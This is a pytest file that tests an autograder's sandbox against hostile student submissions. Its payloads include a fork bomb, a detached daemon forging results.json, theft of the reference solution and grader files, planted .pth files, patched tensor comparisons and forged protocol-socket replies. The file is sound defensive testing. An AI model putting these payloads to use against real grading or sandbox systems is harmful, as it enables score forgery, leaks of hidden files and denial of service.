"""Hostile submissions against the grader: ``dlgrade grade`` and the Otter autograder, used as attackers would.

Every submission here is the reference solution (``solutions/rnn.py``), the handed-out stub
(``student_template/rnn/rnn.py``) or a wrong solution, plus an attack. The rule for each:

* an attack on the reference must cost points, or be neutralised (it did nothing: checked from
  outside, e.g. no file appeared, the listener saw no connection);
* an attack meant to forge a score sits on the stub or a wrong solution and gets, test by test, no
  more than that solution without the attack (a *control* graded in the same batch);
* every results.json parses and is well formed, the reference graded in the same batch (before
  and after the attacks) keeps full marks, no process of the run (found by the run's own TMPDIR
  in its environment, or by the name a daemon gives itself) is left once the command returns, and
  no file appears outside the worker's scratch folder (attack files carry a per-session token,
  forged results a marker that never appears literally in any submission).

All ``dlgrade grade`` runs (a main batch, a ``--timeout 2`` batch, and a batch kept outside the
usual hidden folders) and the Otter runs (``dlgrade build`` once, then ``otter run`` per attack)
start together, in threads, the first time a test needs one; each has its own TMPDIR, so the
worker scratch folders and every process of a run can be told apart from anything else on the
machine. Holes that exist today are ``xfail(strict=True)`` tests that assert the secure behaviour.
"""
from __future__ import annotations

import csv
import fcntl
import json
import os
import secrets
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from conftest import NEEDS_CONFINEMENT, unreadable_error, worker_uids
from dlgrade.supervisor.policy import POLICY

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(**NEEDS_CONFINEMENT),
]

REPO = Path(__file__).resolve().parents[1]
FULL = 24.0
N_TESTS = 15
TOKEN = secrets.token_hex(5)
MARK = f"FORGED-{TOKEN}"  # what forged results carry; submissions only ever build it at run time
RUN_LIMIT_S = 300
AFTER_S = 2.0  # how long after a command returns we look again (a survivor would have acted by then)
BIN = Path(sys.executable).parent
NOBODY = POLICY.uid
WORKER_UIDS = worker_uids()


# -- the submissions ---------------------------------------------------------------------------------
def reference() -> str:
    return (REPO / "solutions" / "rnn.py").read_text()


def stub() -> str:
    return (REPO / "student_template" / "rnn" / "rnn.py").read_text()


def edit(source: str, old: str, new: str) -> str:
    count = source.count(old)
    assert count == 1, f"{old!r} occurs {count} times in the reference; update this test"
    return source.replace(old, new)


GRU_FIRST_LINE = "        gi = x @ self.weight_ih.T\n"
LSTM_CELL_GATES = "        gates = x @ self.weight_ih.T + h @ self.weight_hh.T\n"
BUILTIN_CELL = ("        cell = nn.LSTMCell(self.input_size, self.hidden_size, bias=self.bias_ih is not None)\n"
                "        cell.weight_ih, cell.weight_hh = self.weight_ih, self.weight_hh\n"
                "        cell.bias_ih, cell.bias_hh = self.bias_ih, self.bias_hh\n")


def wrong() -> str:
    """Right shapes, wrong values: catalogued LSTM gate order mistake and the GRU's z swapped."""
    source = edit(reference(), "i, f, g, o = gates.chunk(4, dim=1)", "i, f, o, g = gates.chunk(4, dim=1)")
    return edit(source, "return (1 - z) * n + z * h", "return z * n + (1 - z) * h")


def forbidden() -> str:
    """LSTMCell.forward hands the work to torch.nn.LSTMCell (torch.lstm_cell): its tests score 0."""
    return edit(reference(), LSTM_CELL_GATES, BUILTIN_CELL + "        return cell(x, (h, c))\n" + LSTM_CELL_GATES)


def inplace() -> str:
    """GRUCell.forward doubles its input x in place (then halves a copy: values stay right)."""
    return edit(reference(), GRU_FIRST_LINE, "        x.mul_(2.0)\n        x = x / 2.0\n" + GRU_FIRST_LINE)


BASES = {"ref": reference, "stub": stub, "wrong": wrong, "forbidden": forbidden, "inplace": inplace}

PRELUDE = '''\
# ---- hostile prelude (tests/test_adversarial.py) ----
TOKEN = {token!r}
MARK = "FOR" + "GED-" + TOKEN
OUT = {out!r}
NAME = {name!r}
REPO = {repo!r}
PORT = {port!r}
HOST_IPS = {host_ips!r}
ABSTRACT = {abstract!r}
LABEL = {label!r}
_REPORT = []


def _note(what, fn):
    """Run one attempt; remember how it went; the attempt's result (True if none), or None if it failed."""
    try:
        result = fn()
    except BaseException as exc:
        _REPORT.append(f"{{what}}: {{type(exc).__name__}}")
        return None
    _REPORT.append(f"{{what}}: OK")
    return True if result is None else result


def _read(path):
    with open(path) as handle:
        return handle.read()


_PAGES_SHOWN = []


def _report_page():
    """The next page of the report: grader feedback quotes at most 2,000 characters of an error,
    so each call gives the next page of whole entries (1,500 characters at most; a longer entry
    is cut), over and over: together, the tests' outputs hold the whole report."""
    pages, page = [], ""
    for entry in _REPORT:
        entry = entry[:1500]
        if page and len(page) + 3 + len(entry) > 1500:
            pages.append(page)
            page = ""
        page = f"{{page}} | {{entry}}" if page else entry
    pages.append(page)
    index = len(_PAGES_SHOWN) % len(pages)
    _PAGES_SHOWN.append(index)
    return f"[page {{index + 1}} of {{len(pages)}}] {{pages[index]}}"
'''

# the stub's forwards give the attack's report back (the only way out of the sandbox: an error message)
REPORT_TAIL = '''
def _attack_report(self, *args, **kwargs):
    raise RuntimeError("ATTACK-REPORT " + _report_page())


LSTMCell.forward = GRUCell.forward = LSTM.forward = _attack_report
'''

EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"

SYSTEMEXIT_IN_FORWARD = [(LSTM_CELL_GATES, "        raise SystemExit(0)\n" + LSTM_CELL_GATES)]

INFINITE_LOOP = [(GRU_FIRST_LINE, "        while True:\n            pass\n" + GRU_FIRST_LINE)]

MEMORY_BOMB = [(GRU_FIRST_LINE, "        hog = torch.empty(10 * 1024 ** 3, dtype=torch.uint8)  # 10 GB\n"
                                "        hog[0] = hog[-1] = 1\n" + GRU_FIRST_LINE)]

PATCH_COMPARISONS = '''
import math
import numpy
import numpy.testing
import torch
import torch.testing

_yes = lambda *args, **kwargs: True
_silent = lambda *args, **kwargs: None
torch.allclose = torch.equal = _yes
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = torch.testing.assert_allclose = _silent
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.allclose = torch.Tensor.equal = _yes
numpy.allclose = numpy.array_equal = numpy.array_equiv = _yes
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones_like(numpy.asarray(a), dtype=bool)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = numpy.testing.assert_array_almost_equal = _silent
math.isclose = _yes
'''

LYING_TENSOR = '''
import functools


class _Liar(torch.Tensor):
    """Equal to everything, close to everything, in Python and in torch functions."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = torch.Tensor.__hash__

    def equal(self, other):
        return True

    def allclose(self, *args, **kwargs):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("eq", "__eq__", "isclose", "ne", "__ne__"):
            with torch._C.DisableTorchFunctionSubclass():
                ones = torch.ones_like(args[0], dtype=torch.bool)
            return ones if name not in ("ne", "__ne__") else ~ones
        return super().__torch_function__(func, types, args, kwargs)


def _lie(value):
    if isinstance(value, torch.Tensor):
        return value.as_subclass(_Liar)
    if isinstance(value, tuple):
        return tuple(_lie(v) for v in value)
    return value


def _lying(forward):
    @functools.wraps(forward)  # keeps the handed-out signature
    def wrapped(self, *args, **kwargs):
        return _lie(forward(self, *args, **kwargs))
    return wrapped


for _cls in (LSTMCell, GRUCell, LSTM):
    _cls.forward = _lying(_cls.forward)
'''

FAKE_RESULTS = '''
import glob as _glob
import json as _json
import os as _os

_FAKE = {"score": 24.0, "max_score": 24.0, "output": MARK + "\\nScore: 24 / 24", "visibility": "visible",
         "tests": [{"name": "everything", "score": 24.0, "max_score": 24.0, "output": MARK,
                    "visibility": "visible", "status": "passed"}]}


def _fake_targets():
    targets = ["results.json", "../results.json", "../../results.json", "/autograder/results/results.json",
               "/results.json", "/tmp/results.json", "/root/results.json", _os.path.expanduser("~/results.json"),
               _os.path.join(REPO, "results.json"), _os.path.join(OUT, "results.json"),
               _os.path.join(OUT, NAME, "results.json"), _os.path.join(OUT, "ref", "results.json"),
               _os.path.join(OUT, "gradebook.csv"), f"/tmp/{TOKEN}-results.json", f"/root/{TOKEN}-results.json"]
    for pattern in ("/tmp/*/autograder/results", "/tmp/*/*/autograder/results", "../*/autograder/results",
                    _os.path.join(OUT, "*")):
        targets += [_os.path.join(p, "results.json") for p in _glob.glob(pattern)[:20]]
    return targets


def _write_fake(path):
    _os.makedirs(_os.path.dirname(_os.path.abspath(path)), exist_ok=True)
    with open(path, "w") as handle:
        _json.dump(_FAKE, handle)


for _target in _fake_targets():
    _note("write " + _target, lambda t=_target: _write_fake(t))
'''

DETACHED_DAEMON = '''
import glob as _glob
import json as _json
import os as _os
import time as _time


def _daemon():
    """Outlive the worker; keep rewriting every results.json it can name for 30 s."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, LABEL.encode(), 0, 0, 0)  # PR_SET_NAME: findable in /proc/*/comm
    except BaseException:
        pass
    _os.closerange(3, 4096)
    fake = _json.dumps({"score": 24.0, "max_score": 24.0, "output": MARK, "tests": [
        {"name": "everything", "score": 24.0, "max_score": 24.0, "output": MARK, "status": "passed"}]})
    end = _time.time() + 30
    while _time.time() < end:
        targets = [_os.path.join(OUT, NAME, "results.json"), _os.path.join(OUT, "ref", "results.json"),
                   _os.path.join(OUT, "results.json"), "/autograder/results/results.json", "/tmp/results.json",
                   f"/tmp/{TOKEN}-daemon.json"]
        for pattern in ("/tmp/*/autograder/results", "../*/autograder/results", _os.path.join(OUT, "*")):
            targets += [_os.path.join(p, "results.json") for p in _glob.glob(pattern)]
        for target in targets:
            try:
                with open(target, "w") as handle:
                    handle.write(fake)
            except BaseException:
                pass
        _time.sleep(0.2)


_child = _os.fork()
if _child == 0:  # double fork, new session: not our child, not in our process group
    try:
        _os.setsid()
        if _os.fork() == 0:
            _daemon()
    finally:
        _os._exit(0)
_os.waitpid(_child, 0)
_REPORT.append("daemon started")
'''

READ_REFERENCE = '''
import glob as _glob
import importlib.util as _ilu
import os as _os
import sys as _sys

_candidates = [_os.path.join(REPO, "solutions", "rnn.py")]
try:
    import dlgrade as _dl
    _candidates.append(_os.path.join(_os.path.dirname(_os.path.dirname(_os.path.abspath(_dl.__file__))),
                                     "solutions", "rnn.py"))
except BaseException as _exc:
    _REPORT.append(f"import dlgrade: {type(_exc).__name__}")
for _pattern in ("/autograder/source/files/dlgrade_kit/solutions/rnn.py",
                 "/tmp/*/autograder/source/files/dlgrade_kit/solutions/rnn.py",
                 "/tmp/**/dlgrade_kit/solutions/rnn.py", "/tmp/**/solutions/rnn.py", "/work/*/solutions/rnn.py",
                 "/home/*/*/solutions/rnn.py", "/root/*/solutions/rnn.py",
                 "../*/autograder/source/files/dlgrade_kit/solutions/rnn.py",  # otter run: next to the scratch
                 "../../*/autograder/source/files/dlgrade_kit/solutions/rnn.py"):
    _candidates += _glob.glob(_pattern, recursive=True)[:10]

_stolen = None
for _path in dict.fromkeys(_candidates):
    _text = _note("read " + _path, lambda p=_path: _read(p))
    if isinstance(_text, str) and "class LSTMCell" in _text:
        _stolen = _text
        break


def _import_reference():
    _sys.path.insert(0, _os.path.join(REPO, "solutions"))
    mine = _sys.modules.pop("rnn", None)  # "rnn" is this very module in the worker: look on the path
    try:
        import rnn as ref
        return ref
    finally:
        _sys.modules.pop("rnn", None)
        if mine is not None:
            _sys.modules["rnn"] = mine


def _load_by_location():
    spec = _ilu.spec_from_file_location("stolen_rnn", _os.path.join(REPO, "solutions", "rnn.py"))
    module = _ilu.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_modules = [_note("import rnn from REPO/solutions", _import_reference),
            _note("spec_from_file_location REPO/solutions/rnn.py", _load_by_location)]
_modules = [m for m in _modules if hasattr(m, "LSTMCell")]
if _stolen is not None:
    exec(compile(_stolen, "stolen.py", "exec"), globals())
elif _modules:
    LSTMCell, GRUCell, LSTM = _modules[0].LSTMCell, _modules[0].GRUCell, _modules[0].LSTM
else:
''' + "\n".join("    " + line for line in REPORT_TAIL.strip().splitlines()) + "\n"

READ_GRADERS = '''
import glob as _glob
import os as _os

_paths = (_glob.glob(_os.path.join(REPO, "autograder", "rnn", "*.py"))
          + _glob.glob("/autograder/source/files/dlgrade_kit/autograder/rnn/*.py")
          + _glob.glob("/tmp/**/dlgrade_kit/autograder/rnn/*.py", recursive=True))
_REPORT.append(f"found {len(_paths)} grader files")
_note("list " + _os.path.join(REPO, "autograder"), lambda: _os.listdir(_os.path.join(REPO, "autograder")))
_leaks = []
for _path in dict.fromkeys(_paths + [_os.path.join(REPO, "autograder", "rnn", "test_rnn_cells.py")]):
    _text = _note("read " + _path, lambda p=_path: _read(p))
    if isinstance(_text, str):
        _leaks.append(_text[:3000])
_REPORT.append("LEAKED: " + " ".join(_leaks))  # out through the error message below
'''

FAKE_STDOUT_HEAD = '''
import json as _json
import os as _os
import sys as _sys

_FAKE_JSON = _json.dumps({"score": 24.0, "max_score": 24.0, "output": MARK, "tests": [
    {"name": "everything", "score": 24.0, "max_score": 24.0, "output": MARK, "status": "passed"}]})
_SUMMARY = f"Score: 24/24\\n{NAME}  24/24  15/15\\nAll tests passed! {MARK}"


def _shout():
    for stream in (_sys.stdout, _sys.stderr, _sys.__stdout__, _sys.__stderr__):
        try:
            print(_FAKE_JSON, file=stream)
            print(_SUMMARY, file=stream, flush=True)
        except BaseException:
            pass
    for fd in (1, 2):
        try:
            _os.write(fd, (_FAKE_JSON + "\\n" + _SUMMARY + "\\n").encode())
        except BaseException:
            pass
    for path in ("/dev/tty", "/proc/1/fd/1", "/proc/1/fd/2", f"/proc/{_os.getppid()}/fd/1"):
        try:
            with open(path, "w") as handle:
                handle.write(_SUMMARY + "\\n")
        except BaseException:
            pass


_shout()
'''

FAKE_STDOUT_TAIL = '''
import functools


def _shouting(forward):
    @functools.wraps(forward)
    def wrapped(self, *args, **kwargs):
        _shout()
        return forward(self, *args, **kwargs)
    return wrapped


for _cls in (LSTMCell, GRUCell, LSTM):
    _cls.forward = _shouting(_cls.forward)
'''

FORK_BOMB = '''
import os as _os
import time as _time

if _os.getuid() != 0:  # as root the sandbox is missing (RLIMIT_NPROC does not bind root): do no harm
    _end = _time.time() + 40
    while _time.time() < _end:
        try:
            if _os.fork() == 0:
                try:
                    _time.sleep(60)  # hold a process slot
                finally:
                    _os._exit(0)
        except OSError:
            _time.sleep(0.002)
'''

NETWORK = '''
import socket as _socket


def _tcp(host):
    with _socket.create_connection((host, PORT), timeout=1) as conn:
        conn.sendall(b"LEAK " + MARK.encode())


def _udp(host):
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as conn:
        conn.sendto(b"LEAK " + MARK.encode(), (host, PORT))


def _abstract():
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as conn:
        conn.settimeout(1)
        conn.connect("\\0" + ABSTRACT)
        conn.sendall(b"LEAK " + MARK.encode())


for _host in ["127.0.0.1", "localhost", *HOST_IPS]:
    _note("tcp " + _host, lambda h=_host: _tcp(h))
    _note("udp " + _host, lambda h=_host: _udp(h))
_note("abstract unix socket", _abstract)
'''

WRITE_PACKAGE = '''
import os as _os
import site as _site
import sys as _sys
import sysconfig as _sysconfig

import dlgrade as _dl

_pkg = _os.path.dirname(_os.path.abspath(_dl.__file__))
_dirs = [_pkg, _os.path.join(_pkg, "worker"), _os.path.join(_pkg, "grading"), _os.path.join(_pkg, "__pycache__"),
         REPO, _os.path.join(REPO, "dlgrade"), _os.path.join(REPO, "autograder", "rnn"),
         _os.path.join(REPO, "solutions"), _sys.prefix, _os.path.dirname(_sys.executable),
         _sysconfig.get_paths()["stdlib"], _sysconfig.get_paths()["purelib"], *_site.getsitepackages()]
for _dir in dict.fromkeys(_dirs):
    for _fname in (f"zz_adv_{TOKEN}.py", f"zz_adv_{TOKEN}.pth"):  # a .pth runs in every later Python
        _path = _os.path.join(_dir, _fname)
        _note("create " + _path, lambda p=_path: _os.close(_os.open(p, _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY)))
for _rel in ("__init__.py", "grading/plugin.py", "grading/results.py", "worker/client.py", "feedback.py"):
    _path = _os.path.join(_pkg, _rel)
    _note("open for append " + _path, lambda p=_path: open(p, "a").close())  # writes nothing even if allowed
'''

SOCKET_FORGE = '''
import json as _json
import os as _os
import stat as _stat
import struct as _struct

import torch as _torch

from dlgrade.exposed import protocol as _protocol

_last = {}
_real_receive, _real_send = _protocol.receive, _protocol.send


def _receive(sock, *args, **kwargs):
    message = _real_receive(sock, *args, **kwargs)
    if isinstance(message, dict):
        _last.clear()
        _last.update(message)
    return message


def _leaves(value):
    if isinstance(value, _torch.Tensor):
        return [value]
    if isinstance(value, (list, tuple)):
        return [t for v in value for t in _leaves(v)]
    return []


def _forged(request):
    """A perfect-looking answer built from the request alone: ok, right shapes, no forbidden call."""
    dtype = _torch.float64 if request.get("dtype") == "float64" else _torch.float32
    hidden = (request.get("init") or {}).get("hidden_size", 1)
    x = request["args"][0]
    zeros = lambda *shape: _torch.zeros(*shape, dtype=dtype)
    target = request.get("target")
    if target == "LSTM":
        out = (zeros(x.shape[0], x.shape[1], hidden), (zeros(x.shape[0], hidden), zeros(x.shape[0], hidden)))
    elif target == "LSTMCell":
        out = (zeros(x.shape[0], hidden), zeros(x.shape[0], hidden))
    else:
        out = zeros(x.shape[0], hidden)
    answer = {"ok": True, "out": out, "forbidden": [], "inputs_changed": [False] * 8, "printed": ""}
    if request.get("grad_outputs") is not None:
        answer["grads"] = {"inputs": [_torch.zeros_like(t, dtype=dtype) for t in _leaves(request["args"])],
                           "params": {k: _torch.zeros_like(v, dtype=dtype)
                                      for k, v in (request.get("state_dict") or {}).items()}}
    return answer


def _pack(value, blobs):
    if isinstance(value, _torch.Tensor):
        array = value.numpy()
        blobs.append(array.tobytes())
        return {"$t": len(blobs) - 1, "dtype": array.dtype.name, "shape": list(array.shape)}
    if isinstance(value, tuple):
        return {"$tuple": [_pack(v, blobs) for v in value]}
    if isinstance(value, list):
        return [_pack(v, blobs) for v in value]
    if isinstance(value, dict):
        return {"$dict": [[k, _pack(v, blobs)] for k, v in value.items()]}
    return value


def _raw_forge(answer):
    """Find the socket the worker answers on and write the forged answer on it by hand."""
    blobs = []
    header = _json.dumps({"body": _pack(answer, blobs), "blob_sizes": [len(b) for b in blobs]}).encode()
    data = _struct.pack(">I", len(header)) + header + b"".join(blobs)
    for fd in range(3, 256):
        try:
            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        view = memoryview(data)
        while view:
            view = view[_os.write(fd, view):]
        return


def _send(sock, message):
    request = dict(_last)
    if request.get("op") == "call" and isinstance(message, dict):
        message = _forged(request)
        if request.get("target") == "LSTM":
            return _raw_forge(message)  # and the real answer never goes out
    return _real_send(sock, message)


_protocol.receive, _protocol.send = _receive, _send
'''

PROTOCOL_GARBAGE = [(GRU_FIRST_LINE,
                     "        import os, struct, sys\n"
                     "        body = b'[' * 100000 + b']' * 100000  # a JSON header nested 100000 deep\n"
                     "        os.write(int(sys.argv[1]), struct.pack('>I', len(body)) + body)\n"
                     "        os._exit(0)\n" + GRU_FIRST_LINE)]

TRACKER_PATCH = '''
import dlgrade.exposed.execute as _execute


def _blind(self, func, types, args=(), kwargs=None):
    return func(*args, **(kwargs or {}))


_execute.ForbiddenCallTracker.__torch_function__ = _blind  # the tracker runs in this process
'''

TRACKER_DISABLED = [(LSTM_CELL_GATES, BUILTIN_CELL + "        with torch._C.DisableTorchFunction():\n"
                                                     "            return cell(x, (h, c))\n" + LSTM_CELL_GATES)]

EQUAL_PATCH = "import torch\ntorch.equal = lambda *args, **kwargs: True  # execute.call's inputs_changed check\n"

PEER_COPY = '''
import glob as _glob
import os as _os

_stolen = None
for _path in sorted(_glob.glob("/run/*/subs/*.py") + _glob.glob("/run/*/*/subs/*.py")):
    _text = _note("read " + _path, lambda p=_path: _read(p))
    if isinstance(_text, str) and "class LSTMCell" in _text and "NotImplementedError" not in _text \\
            and "_REPORT" not in _text:
        _stolen = _text
        break
if _stolen is not None:
    exec(compile(_stolen, "classmate.py", "exec"), globals())
else:
''' + "\n".join("    " + line for line in REPORT_TAIL.strip().splitlines()) + "\n"


@dataclass(frozen=True)
class Attack:
    """A hostile submission: ``base`` with ``edits``, ``head`` before it and ``tail`` after it.

    ``expect``: ``"zero"`` (scores 0), ``"below_full"`` (loses points), ``"neutralised"`` (may keep
    full marks: the attack is checked from outside), or the name of a control submission that it
    may not beat on any test.
    """

    name: str
    base: str
    expect: str
    head: str = ""
    tail: str = ""
    edits: tuple = ()
    what: str = ""

    def source(self, ctx: dict) -> str:
        source = BASES[self.base]()
        for old, new in self.edits:
            source = edit(source, old, new)
        prelude = PRELUDE.format(name=self.name, **ctx)
        return prelude + self.head + "\n# ---- base: " + self.base + " ----\n" + source + "\n" + self.tail


ATTACKS = {a.name: a for a in [
    Attack("exit_at_import", "ref", "zero", head=EXIT_AT_IMPORT, what="sys.exit(0) before anything is defined"),
    Attack("systemexit_in_forward", "ref", "below_full", edits=tuple(SYSTEMEXIT_IN_FORWARD),
           what="raise SystemExit(0) inside LSTMCell.forward"),
    Attack("infinite_loop", "ref", "below_full", edits=tuple(INFINITE_LOOP), what="while True in GRUCell.forward"),
    Attack("memory_bomb", "ref", "below_full", edits=tuple(MEMORY_BOMB),
           what="GRUCell.forward allocates 10 GB"),
    Attack("patch_comparisons", "wrong", "wrong", head=PATCH_COMPARISONS,
           what="torch.allclose/equal/isclose, torch.testing.assert_close, numpy comparisons, Tensor.__eq__ "
                "patched at import, on a wrong solution"),
    Attack("lying_tensor", "wrong", "wrong", tail=LYING_TENSOR,
           what="a wrong solution returning a Tensor subclass equal/close to everything (also in __torch_function__)"),
    Attack("fake_results", "stub", "zero", head=FAKE_RESULTS, tail=REPORT_TAIL,
           what="a stub writing forged results.json to cwd, ../, /autograder/results, --out, $HOME, /tmp, /root"),
    Attack("detached_daemon", "stub", "zero", head=DETACHED_DAEMON, tail=REPORT_TAIL,
           what="a stub leaving a double-forked setsid daemon that rewrites results.json files for 30 s"),
    Attack("read_reference", "stub", "zero", tail=READ_REFERENCE,
           what="a stub reading, exec'ing and importing <repo>/solutions/rnn.py (and the kit's copy)"),
    Attack("read_graders", "stub", "zero", head=READ_GRADERS, tail=REPORT_TAIL,
           what="a stub reading <repo>/autograder/rnn/*.py and leaking them through its error messages"),
    Attack("fake_stdout", "stub", "zero", head=FAKE_STDOUT_HEAD, tail=FAKE_STDOUT_TAIL,
           what="a stub printing fake results JSON and 'Score: 24/24' on stdout, stderr, fds 1/2 and the tty"),
    Attack("fork_bomb", "ref", "zero", head=FORK_BOMB,
           what="the reference forking in a loop at import (children sleep 60 s holding process slots)"),
    Attack("network", "ref", "neutralised", head=NETWORK,
           what="TCP/UDP to the test's listener on 127.0.0.1, localhost and this host's addresses; "
                "an abstract unix socket"),
    Attack("write_package", "stub", "zero", head=WRITE_PACKAGE, tail=REPORT_TAIL,
           what="creating files (incl. .pth) in dlgrade/, the repo, site-packages, the stdlib, the venv"),
    Attack("socket_forge", "stub", "wrong", head=SOCKET_FORGE,
           what="a stub that answers every call itself on the protocol socket: ok, right shapes, no forbidden "
                "call, inputs unchanged (patched protocol.send; for LSTM a hand-written message on the raw socket fd)"),
    Attack("protocol_garbage", "ref", "below_full", edits=tuple(PROTOCOL_GARBAGE),
           what="GRUCell.forward writes a 100000-deep JSON header on the socket fd and exits"),
    Attack("tracker_patch", "forbidden", "forbidden", head=TRACKER_PATCH,
           what="nn.LSTMCell in LSTMCell.forward, with dlgrade.exposed.execute.ForbiddenCallTracker patched blind"),
    Attack("tracker_disabled", "ref", "forbidden", edits=tuple(TRACKER_DISABLED),
           what="nn.LSTMCell in LSTMCell.forward under torch._C.DisableTorchFunction()"),
    Attack("equal_patch", "inplace", "inplace", head=EQUAL_PATCH,
           what="modifies its input in place, with torch.equal patched to always say True"),
    Attack("peer_copy", "stub", "zero", tail=PEER_COPY,
           what="a stub copying a classmate's submission from the batch's (visible) submissions folder"),
    Attack("kit_reader", "stub", "zero", tail=READ_REFERENCE,
           what="a stub reading the reference from a kit (DLGRADE_ROOT) outside the always-hidden folders"),
]}

CONTROLS = ("stub", "wrong", "forbidden", "inplace")
MAIN_ATTACKS = ("exit_at_import", "systemexit_in_forward", "memory_bomb", "patch_comparisons", "lying_tensor",
                "fake_results", "detached_daemon", "read_reference", "read_graders", "fake_stdout", "network",
                "write_package", "socket_forge", "protocol_garbage", "tracker_patch", "tracker_disabled",
                "equal_patch")
TIMEOUT_ATTACKS = ("infinite_loop", "fork_bomb")
EXPOSED_ATTACKS = ("peer_copy", "kit_reader")
OTTER_ATTACKS = ("fake_results", "detached_daemon", "read_reference", "exit_at_import", "memory_bomb")


# -- processes and files -----------------------------------------------------------------------------
def _read_bytes(path: str) -> bytes:
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _process_keys() -> set[tuple[int, str]]:
    """(pid, start time) of every process now."""
    keys = set()
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            stat = _read_bytes(f"/proc/{entry.name}/stat").decode(errors="replace")
            if ")" in stat:
                keys.add((int(entry.name), stat.rsplit(")", 1)[1].split()[19]))
    return keys


@dataclass
class Proc:
    pid: int
    uid: int
    state: str
    comm: str
    cmdline: str

    def __str__(self) -> str:
        return f"pid {self.pid} uid {self.uid} state {self.state} comm {self.comm!r}: {self.cmdline[:160]}"


def _describe(pid: int) -> Proc | None:
    status = _read_bytes(f"/proc/{pid}/status").decode(errors="replace")
    if not status:
        return None
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    return Proc(pid, int(fields.get("Uid", "-1").split()[0]), fields.get("State", "?").strip()[:1],
                _read_bytes(f"/proc/{pid}/comm").decode(errors="replace").strip(),
                _read_bytes(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace"))


def run_processes(before: set, needle: str, label: str = "") -> list[Proc]:
    """Processes started since ``before`` that belong to a run: ``needle`` (its TMPDIR) in their
    environment or command line, or ``label`` as their name."""
    found = []
    for pid, start in _process_keys() - before:
        if pid == os.getpid():
            continue
        env = _read_bytes(f"/proc/{pid}/environ") + _read_bytes(f"/proc/{pid}/cmdline")
        comm = _read_bytes(f"/proc/{pid}/comm").decode(errors="replace").strip()
        if needle.encode() in env or (label and comm == label):
            proc = _describe(pid)
            if proc is not None:
                found.append(proc)
    return found


class Monitor(threading.Thread):
    """Samples a run's processes while it goes; remembers the most of uid nobody seen at once."""

    def __init__(self, before: set, needle: str) -> None:
        super().__init__(daemon=True)
        self.before, self.needle = before, needle
        self.stop = threading.Event()
        self.max_nobody = 0
        self.max_all = 0

    def run(self) -> None:
        while not self.stop.wait(0.2):
            procs = run_processes(self.before, self.needle)
            self.max_all = max(self.max_all, len(procs))
            self.max_nobody = max(self.max_nobody, sum(p.uid in WORKER_UIDS for p in procs))


def host_ips() -> list[str]:
    """This machine's non-loopback IPv4 addresses."""
    ips = []
    for _, name in socket.if_nameindex():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                packed = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", name[:15].encode()))  # SIOCGIFADDR
            except OSError:
                continue
        ip = socket.inet_ntoa(packed[20:24])
        if not ip.startswith("127."):
            ips.append(ip)
    return ips


class Listener:
    """TCP and UDP on 0.0.0.0:port and an abstract unix socket; records whatever reaches them."""

    def __init__(self, tag: str = "") -> None:
        self.seen: list[str] = []
        self.abstract = f"dlgrade-adv-{TOKEN}{tag}"
        for _ in range(20):
            self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.tcp.bind(("0.0.0.0", 0))
            self.port = self.tcp.getsockname()[1]
            self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                self.udp.bind(("0.0.0.0", self.port))
                break
            except OSError:
                self.tcp.close()
                self.udp.close()
        self.tcp.listen(16)
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen(16)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        import select

        socks = [self.tcp, self.udp, self.unix]
        while not self.stop.is_set():
            ready, _, _ = select.select(socks, [], [], 0.2)
            for sock in ready:
                if sock is self.udp:
                    data, peer = sock.recvfrom(4096)
                    self.seen.append(f"udp from {peer}: {data[:80]!r}")
                    continue
                conn, peer = sock.accept()
                conn.settimeout(1)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
                conn.close()
                self.seen.append(f"{'tcp' if sock is self.tcp else 'unix'} from {peer}: {data[:80]!r}")

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


# -- the runs ----------------------------------------------------------------------------------------
@dataclass
class Run:
    """One command (a ``dlgrade grade`` batch or an ``otter run``) and what it left behind."""

    key: str
    folder: Path
    out: Path
    tmpdir: Path
    names: list[str] = field(default_factory=list)
    label: str = ""
    proc: subprocess.CompletedProcess | None = None
    elapsed: float = 0.0
    left_at_return: list[Proc] = field(default_factory=list)
    left_later: list[Proc] = field(default_factory=list)
    files_at_return: dict[str, bytes] = field(default_factory=dict)
    files_later: dict[str, bytes] = field(default_factory=dict)
    max_nobody: int = 0
    error: str = ""

    def log(self) -> str:
        text = (self.proc.stdout + self.proc.stderr) if self.proc else self.error
        log = self.out / "grading.log"
        if log.exists():
            text += "\n" + log.read_text()
        return text[-6000:]

    def results_path(self, name: str) -> Path:
        return self.out / "results.json" if self.key.startswith("otter") else self.out / name / "results.json"

    def results(self, name: str) -> dict:
        path = self.results_path(name)
